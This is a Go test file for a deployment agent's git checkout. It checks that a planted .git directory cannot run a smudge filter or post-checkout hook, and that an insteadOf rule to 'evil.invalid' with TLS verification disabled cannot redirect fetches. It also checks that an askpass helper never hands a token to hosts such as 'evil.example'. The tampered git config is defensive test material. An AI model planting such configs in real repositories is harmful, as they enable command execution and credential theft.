package agent

import (
	"bytes"
	"context"
	"crypto/subtle"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"upanel/internal/wire"
)

// testGitServer serves bare repositories over smart HTTP (git http-backend
// as a CGI program) behind TLS on 127.0.0.1. With a token, only requests
// carrying it as the Basic password get in.
type testGitServer struct {
	URL    string // https://127.0.0.1:<port>
	CAFile string // its certificate, for GIT_SSL_CAINFO
	root   string
	token  string

	mu   sync.Mutex
	auth int // requests that carried an Authorization header
	reqs int
}

func newTestGitServer(t *testing.T, token string) *testGitServer {
	t.Helper()
	gitBin, err := exec.LookPath("git")
	if err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	s := &testGitServer{root: t.TempDir(), token: token}
	backend := &cgi.Handler{Path: gitBin, Args: []string{"http-backend"}, Dir: s.root,
		Env: []string{"GIT_PROJECT_ROOT=" + s.root, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}}
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.reqs++
		if r.Header.Get("Authorization") != "" {
			s.auth++
		}
		s.mu.Unlock()
		if s.token != "" {
			_, pass, ok := r.BasicAuth()
			if !ok || subtle.ConstantTimeCompare([]byte(pass), []byte(s.token)) != 1 {
				w.Header().Set("WWW-Authenticate", `Basic realm="test"`)
				http.Error(w, "authentication required", http.StatusUnauthorized)
				return
			}
		}
		r.Header.Del("Authorization")
		if len(r.TransferEncoding) > 0 {
			body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<20))
			r.Body, r.ContentLength, r.TransferEncoding = io.NopCloser(bytes.NewReader(body)), int64(len(body)), nil
		}
		backend.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	s.URL = srv.URL
	s.CAFile = filepath.Join(t.TempDir(), "ca.pem")
	pemBytes := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
	if err := os.WriteFile(s.CAFile, pemBytes, 0o600); err != nil {
		t.Fatal(err)
	}
	return s
}

func (s *testGitServer) counts() (reqs, auth int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.reqs, s.auth
}

// testRepo is a repository the test commits to and the server serves.
type testRepo struct {
	URL  string
	work string
	bare string
}

// runTestGit runs git for the test itself, outside the agent's hardening.
func runTestGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	c := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...)
	c.Dir = dir
	c.Env = []string{"HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "PATH=/usr/bin:/bin"}
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

func (s *testGitServer) newRepo(t *testing.T, name string) *testRepo {
	t.Helper()
	r := &testRepo{URL: s.URL + "/" + name + ".git", work: t.TempDir(), bare: filepath.Join(s.root, name+".git")}
	runTestGit(t, s.root, "init", "-q", "--bare", "--", r.bare)
	runTestGit(t, r.work, "init", "-q", ".")
	return r
}

// commit writes files, commits them on main and pushes; it returns the
// commit.
func (r *testRepo) commit(t *testing.T, files map[string]string) string {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(r.work, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.HasPrefix(content, "\x7fELF") {
			mode = 0o755 // a program
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	runTestGit(t, r.work, "add", "-A")
	runTestGit(t, r.work, "commit", "-q", "-m", fmt.Sprintf("change %d files", len(files)))
	runTestGit(t, r.work, "push", "-q", r.bare, "HEAD:refs/heads/main")
	return runTestGit(t, r.work, "rev-parse", "HEAD")
}

// waitDeployment polls until the deployment ends and returns its state and
// log.
func waitDeployment(t *testing.T, d *Deployer, id string) (wire.DeployState, string) {
	t.Helper()
	for {
		out, ok, err := d.poll(context.Background(), id, 0, maxPollWait)
		if !ok || err != nil {
			t.Fatalf("poll %s: %v %v", id, ok, err)
		}
		if out.State.Status != wire.DeployRunning {
			var b strings.Builder
			for _, l := range out.Lines {
				b.WriteString(l.Text + "\n")
			}
			return out.State, b.String()
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// plantRepo makes dir/.git a repository whose config would run a command on
// checkout (a smudge filter that the planted .gitattributes applies to
// every file) and, with evil, send fetches elsewhere: what a container that
// bind-mounts its checkout could write there.
func plantRepo(t *testing.T, dir, marker string, evil bool) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	runTestGit(t, dir, "init", "-q", ".")
	cfg := fmt.Sprintf("[filter \"x\"]\n\tsmudge = \"touch %s; cat\"\n\tprocess = \"touch %s\"\n[core]\n\thooksPath = hooks\n", marker, marker)
	if evil {
		cfg += "[url \"https://evil.invalid/\"]\n\tinsteadOf = https://\n[http]\n\tsslVerify = false\n"
	}
	f, err := os.OpenFile(filepath.Join(dir, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(cfg)
	f.Close()
	os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755)
	os.WriteFile(filepath.Join(dir, ".git", "hooks", "post-checkout"), []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755)
	if err := os.WriteFile(filepath.Join(dir, ".gitattributes"), []byte("* filter=x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

// I1: git's repository lives in the agent's state dir, so a .git planted in
// the deploy tree (by a container that bind-mounts it, or left by an older
// agent) is never read: its filter does not run, its insteadOf does not
// redirect the fetch.
func TestPlantedGitDirHasNoEffect(t *testing.T) {
	srv := newTestGitServer(t, "")
	repo := srv.newRepo(t, "app")
	c1 := repo.commit(t, map[string]string{"app.txt": "one\n", "sub/b.txt": "b\n"})

	d := newTestDeployer(t)
	d.gitEnv = []string{"GIT_SSL_CAINFO=" + srv.CAFile}
	marker := filepath.Join(t.TempDir(), "pwned")
	req := validRequest(d)
	req.Git.URL, req.Env = repo.URL, nil
	// An older agent's in-tree repository, tampered with.
	plantRepo(t, req.Dir, marker, false)

	// No compose file: the deployment fails after its checkout, and puts
	// the tree back (another checkout).
	if _, _, err := d.start(req); err != nil {
		t.Fatal(err)
	}
	st, log := waitDeployment(t, d, req.ID)
	if st.Commit != c1 {
		t.Fatalf("commit %q, want %s; log:\n%s", st.Commit, c1, log)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("the planted filter or hook ran; log:\n%s", log)
	}
	if _, err := os.Lstat(filepath.Join(req.Dir, ".git")); err == nil {
		t.Fatal("the in-tree .git is still there")
	}
	fi, err := os.Stat(d.repoDir(req.Project))
	if err != nil || fi.Mode().Perm() != 0o700 {
		t.Fatalf("repository %s: %v %v", d.repoDir(req.Project), fi, err)
	}
	if b, err := os.ReadFile(filepath.Join(req.Dir, "app.txt")); err != nil || string(b) != "one\n" {
		t.Fatalf("app.txt %q %v", b, err)
	}

	// A container plants a repository again, with an insteadOf to another
	// host as well.
	plantRepo(t, req.Dir, marker, true)
	c2 := repo.commit(t, map[string]string{"app.txt": "two\n"})
	req.ID = testULID(2)
	if _, _, err := d.start(req); err != nil {
		t.Fatal(err)
	}
	st, log = waitDeployment(t, d, req.ID)
	if st.Commit != c2 {
		t.Fatalf("commit %q, want %s; log:\n%s", st.Commit, c2, log)
	}
	if strings.Contains(log, "evil.invalid") {
		t.Fatalf("the fetch was redirected; log:\n%s", log)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("the planted filter or hook ran; log:\n%s", log)
	}
}

// I2: the askpass helper answers only git's prompts for the repository's
// own host, and git follows no redirect (which would take the credential
// elsewhere).
func TestAskpassAnswersOnlyItsHost(t *testing.T) {
	dir := t.TempDir()
	cat, err := findCommand("cat")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "u"), []byte("x-access-token"), 0o600)
	os.WriteFile(filepath.Join(dir, "p"), []byte("s3cret-token"), 0o600)
	script := filepath.Join(dir, "askpass")
	host := "git.example.com:8443"
	if err := os.WriteFile(script, []byte(askpassScript(cat, filepath.Join(dir, "u"), filepath.Join(dir, "p"), host, "x-access-token")), 0o700); err != nil {
		t.Fatal(err)
	}
	for prompt, want := range map[string]string{
		"Username for 'https://git.example.com:8443': ":                "x-access-token",
		"Password for 'https://x-access-token@git.example.com:8443': ": "s3cret-token",
		"Password for 'https://git.example.com:8443': ":                "s3cret-token",
		"Username for 'https://evil.example': ":                        "",
		"Password for 'https://x-access-token@evil.example': ":         "",
		"Password for 'https://git.example.com:84430': ":               "",
		"Password for 'https://git.example.com': ":                     "",
		"Password for 'https://x-access-token@git.example.com.evil': ": "",
		"Password: ": "",
	} {
		out, err := exec.Command(script, prompt).Output()
		if string(out) != want || (want == "") != (err != nil) {
			t.Errorf("%q: %q %v, want %q", prompt, out, err, want)
		}
	}

	// Real git: the token works for its own server, and a redirect to
	// another server is not followed.
	const token = "tok-4f1c9a7e"
	good := newTestGitServer(t, token)
	repo := good.newRepo(t, "app")
	repo.commit(t, map[string]string{"a": "a"})
	d := newTestDeployer(t)
	d.gitEnv = []string{"GIT_SSL_CAINFO=" + good.CAFile}
	src := wire.GitSource{URL: repo.URL, CredentialType: "token", Secret: token}
	if res := d.gitCheck(context.Background(), wire.GitCheck{Git: src, Branch: "main"}, newMasker(gitSecrets(src))); !res.OK {
		t.Fatalf("check: %+v", res)
	}
	redirect := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, good.URL+r.URL.RequestURI(), http.StatusFound)
	}))
	defer redirect.Close()
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	both := append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: redirect.Certificate().Raw}), must(os.ReadFile(good.CAFile))...)
	os.WriteFile(caFile, both, 0o600)
	d.gitEnv = []string{"GIT_SSL_CAINFO=" + caFile}
	reqs0, auth0 := good.counts()
	src.URL = redirect.URL + "/app.git"
	res := d.gitCheck(context.Background(), wire.GitCheck{Git: src, Branch: "main"}, newMasker(gitSecrets(src)))
	if res.OK || strings.Contains(res.Error, token) {
		t.Fatalf("check through a redirect: %+v", res)
	}
	if reqs, auth := good.counts(); reqs != reqs0 || auth != auth0 {
		t.Fatalf("the redirect was followed: %d requests, %d with credentials", reqs-reqs0, auth-auth0)
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
